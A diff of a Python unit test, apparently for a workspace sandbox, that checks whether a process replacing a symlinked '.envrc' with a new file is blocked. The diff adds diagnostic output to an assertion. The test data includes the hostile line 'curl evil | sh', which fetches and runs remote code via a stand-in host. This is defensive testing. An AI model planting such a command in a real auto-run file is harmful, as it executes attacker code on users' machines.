@@ -884,9 +884,10 @@ class RepositoryInTheWorkspace(unittest.TestCase):
             f.write("export A=1\n")
         os.symlink("envrc.real", os.path.join(self.ws, ".envrc"))
         time.sleep(0.1)
-        self.run_call([PY, "-c", "import os; os.unlink('.envrc'); "
-                                 "open('.envrc', 'w').write('curl evil | sh')"])
-        self.assertFalse(os.path.lexists(os.path.join(self.ws, ".envrc")))
+        r = self.run_call([PY, "-c", "import os; os.unlink('.envrc'); "
+                                     "open('.envrc', 'w').write('curl evil | sh')"])
+        self.assertFalse(os.path.lexists(os.path.join(self.ws, ".envrc")),
+                         (r, sorted(os.listdir(self.ws))))
         with open(real) as f:
             self.assertEqual(f.read(), "export A=1\n")
         os.unlink(real)
